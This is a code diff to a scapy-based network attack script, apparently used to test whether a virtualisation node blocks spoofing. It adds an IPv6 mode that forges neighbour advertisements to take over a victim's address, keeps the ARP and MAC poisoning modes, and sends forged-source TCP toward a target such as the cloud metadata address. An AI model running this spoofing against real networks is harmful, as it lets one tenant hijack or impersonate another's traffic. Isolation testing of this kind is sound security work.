@@ -9,7 +9,9 @@ two things the attacker can write from its own port:
 - `--mode arp`: the node's neighbour entry for the victim's address (ARP requests to the node
   claiming that address with the attacker's MAC);
 - `--mode mac`: the bridge's forwarding entry for the victim's MAC (frames sent with the
-  victim's MAC as their source).
+  victim's MAC as their source);
+- `--mode na`: on IPv6, the node's neighbour entry for the victim's address (unsolicited
+  neighbour advertisements, override flag set, naming the attacker's MAC).
 
 `--mode syn` sends one forged SYN from the victim's address and takes over nothing (on a
 routed link the answer goes to the victim's own link; whether the SYN got past the node's
@@ -26,7 +28,7 @@ import select
 import sys
 import time
 
-from scapy.all import ARP, IP, TCP, Ether, Raw, conf  # noqa: E402
+from scapy.all import ARP, IP, TCP, Ether, ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, IPv6, Raw, conf, in6_mactoifaceid  # noqa: E402
 
 METADATA = "169.254.169.254"
 
@@ -34,7 +36,7 @@ METADATA = "169.254.169.254"
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("--iface", default="eth0")
-    parser.add_argument("--mode", choices=["arp", "mac", "syn"], required=True)
+    parser.add_argument("--mode", choices=["arp", "na", "mac", "syn"], required=True)
     parser.add_argument("--victim-ip", required=True)
     parser.add_argument("--victim-mac", required=True)
     parser.add_argument("--gateway-ip", required=True)
@@ -51,7 +53,12 @@ def main():
     def poison():
         if args.mode == "syn":
             return
-        if args.mode == "arp":
+        if args.mode == "na":
+            advert = ICMPv6ND_NA(tgt=args.victim_ip, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=own_mac)
+            # From the attacker's own link-local address: only the target claims the victim's.
+            own_link_local = "fe80::" + in6_mactoifaceid(own_mac)
+            sock.send(Ether(src=own_mac, dst="33:33:00:00:00:01") / IPv6(src=own_link_local, dst="ff02::1", hlim=255) / advert)
+        elif args.mode == "arp":
             # "Who has the gateway? Tell <victim IP> at <attacker MAC>": the node learns it.
             claim = ARP(op=1, hwsrc=own_mac, psrc=args.victim_ip, hwdst="00:00:00:00:00:00", pdst=args.gateway_ip)
             sock.send(Ether(src=own_mac, dst="ff:ff:ff:ff:ff:ff") / claim)
@@ -76,16 +83,17 @@ def main():
         time.sleep(0.05)
 
     target_ip, target_port = args.target.rsplit(":", 1)
-    target_port = int(target_port)
-    frame = Ether(src=source_mac, dst=args.gateway_mac) / IP(src=args.victim_ip, dst=target_ip)
+    target_ip, target_port = target_ip.strip("[]"), int(target_port)
+    layer = IPv6 if ":" in args.victim_ip else IP
+    frame = Ether(src=source_mac, dst=args.gateway_mac) / layer(src=args.victim_ip, dst=target_ip)
     sport, seq = random.randint(20000, 60000), random.randint(0, 2**31)
 
     def ours(packet):
         return (
             TCP in packet
-            and IP in packet
-            and packet[IP].src == target_ip
-            and packet[IP].dst == args.victim_ip
+            and layer in packet
+            and packet[layer].src == target_ip
+            and packet[layer].dst == args.victim_ip
             and packet[TCP].sport == target_port
             and packet[TCP].dport == sport
         )
